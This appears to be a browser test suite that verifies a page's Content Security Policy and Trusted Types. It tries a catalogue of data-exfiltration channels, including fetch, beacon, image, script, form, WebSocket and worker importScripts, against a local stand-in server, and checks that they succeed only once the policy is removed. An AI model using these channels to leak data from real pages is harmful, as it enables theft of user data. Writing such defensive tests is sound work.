/**
 * Nothing leaves the page: code that got into it, or into its worker, tries every way to send something to
 * a stranger's server, and none arrives. The same attempts arrive from a page without the policy, or the
 * test would prove nothing. What no policy in a page can refuse, and is not tried here: going elsewhere
 * with the whole tab.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { flow, repositoryFile } from '../harness.js';

/** @import {Stage} from '../harness.js' */

/**
 * A server of somebody else's that would take anything.
 * @param {Stage['later']} later
 */
async function stranger(later) {
  /** @type {Set<string>} */
  const arrived = new Set();
  const server = createServer((request, response) => {
    arrived.add((request.url ?? '').replace(/\W/g, ''));
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
    response.end('0');
  });
  server.on('upgrade', (request, socket) => {
    arrived.add((request.url ?? '').replace(/\W/g, ''));
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  later(async () => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return { address: `127.0.0.1:${port}`, arrived };
}

/**
 * Every way out, each under its own name; runs in a page or a worker, so it is self-contained.
 * @param {string} host
 * @returns {Promise<string[]>} the ways that were tried
 */
async function attempt(host) {
  const url = `http://${host}/`;
  /** @type {any} */ const scope = globalThis;
  /** @type {Record<string, () => unknown>} */
  const ways = {
    fetch: () => scope.fetch(`${url}fetch`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
    xhr: () => {
      const request = new scope.XMLHttpRequest();
      request.open('GET', `${url}xhr`);
      request.send();
    },
    socket: () => new scope.WebSocket(`ws://${host}/socket`),
    events: () => new scope.EventSource(`${url}events`),
    import: () => import(`${url}import`),
  };
  if (typeof document === 'undefined') {
    ways['importScripts'] = () => scope.importScripts(`${url}importScripts`);
  } else {
    /** @param {string} tag @param {Record<string, string>} fields */
    const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
    ways['beacon'] = () => navigator.sendBeacon(`${url}beacon`, 'secret');
    ways['image'] = () => add('img', { src: `${url}image` });
    ways['script'] = () => add('script', { src: `${url}script` });
    ways['style'] = () => add('link', { rel: 'stylesheet', href: `${url}style` });
    ways['frame'] = () => add('iframe', { src: `${url}frame` });
    ways['font'] = () => new FontFace('leak', `url(${url}font)`).load();
    ways['form'] = () => {
      const target = Object.assign(document.createElement('iframe'), { name: 'form-target' });
      const form = Object.assign(document.createElement('form'), { action: `${url}form`, target: 'form-target' });
      document.body.append(target, form);
      form.submit();
    };
  }
  // Not awaited: some of them never settle once they are refused.
  for (const way of Object.values(ways)) {
    try {
      Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused at once.
    }
  }
  await new Promise((done) => setTimeout(done, 700));
  return Object.keys(ways);
}

/** What arrives from a page without the policy, in every engine. */
const FROM_PAGE = ['fetch', 'xhr', 'socket', 'events', 'import', 'beacon', 'image', 'script', 'style', 'frame', 'font', 'form'];
const FROM_WORKER = ['fetch', 'xhr', 'socket', 'events', 'import', 'importScripts'];

const ready = () => document.documentElement.dataset['state'] === 'ready';

/** @param {string} html */
const withoutPolicy = (html) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

/** A plain host: its headers must not do the policy's work. */
const FROM = 'plain';

flow('nothing can be sent out from the page', async ({ open, later }) => {
  const { address, arrived } = await stranger(later);
  const page = await open({ from: FROM, expects: ['.*'], provokes: true });
  await page.until(ready);
  assert.deepEqual((await page.evaluate(attempt, address)).toSorted(), FROM_PAGE.toSorted());
  assert.deepEqual([...arrived], []);
});

flow('without the policy the same attempts from the page arrive', async ({ open, later }) => {
  const { address, arrived } = await stranger(later);
  const html = withoutPolicy(await repositoryFile('www/index.html'));
  const page = await open({ from: FROM, files: { 'www/index.html': html }, expects: ['.*'], provokes: true });
  await page.until(ready);
  await page.evaluate(attempt, address);
  assert.deepEqual([...arrived].toSorted(), FROM_PAGE.toSorted());
});

/** @param {string} address */
const inWorker = (address) => `(${attempt})(${JSON.stringify(address)}).then((said) => postMessage({ said }));`;
const said = () => /** @type {any} */ (globalThis).__said?.[0];

flow('nothing can be sent out from inside the worker', async ({ open, later }) => {
  const { address, arrived } = await stranger(later);
  const page = await open({ from: FROM, workerSource: inWorker(address), expects: ['.*'], provokes: true });
  await page.until(ready);
  await page.until(said);
  assert.deepEqual((await page.evaluate(said)).toSorted(), FROM_WORKER.toSorted());
  assert.deepEqual([...arrived], []);
});

flow('without the policy the same attempts from the worker arrive', async ({ open, later }) => {
  const { address, arrived } = await stranger(later);
  const html = withoutPolicy(await repositoryFile('www/index.html'));
  const page = await open({
    from: FROM,
    files: { 'www/index.html': html },
    workerSource: inWorker(address),
    expects: ['.*'],
    provokes: true,
  });
  await page.until(said);
  assert.deepEqual([...arrived].toSorted(), FROM_WORKER.toSorted());
});

flow('a string is no script: neither markup, nor an address, nor a worker', async ({ open }) => {
  const page = await open({ expects: ['.*'] });
  await page.until(ready);
  const refused = await page.evaluate(async () => {
    const types = /** @type {any} */ (globalThis).trustedTypes;
    const tried = {
      markup: () => (document.body.innerHTML = '<b>text</b>'),
      address: () => (document.createElement('script').src = 'corpus/payload.js'),
      worker: () => new Worker('corpus/payload.js'),
      policy: () => types.createPolicy('mine', {}),
      again: () => types.createPolicy('dateline', {}),
      source: () => new Function('return 1')(),
    };
    // In a task of the page's own: a driver's is excused from parts of the policy.
    await new Promise((done) => setTimeout(done));
    return Object.entries(tried)
      .filter(([, attempt]) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      })
      .map(([name]) => name);
  });
  assert.deepEqual(refused, ['markup', 'address', 'worker', 'policy', 'again', 'source']);
});
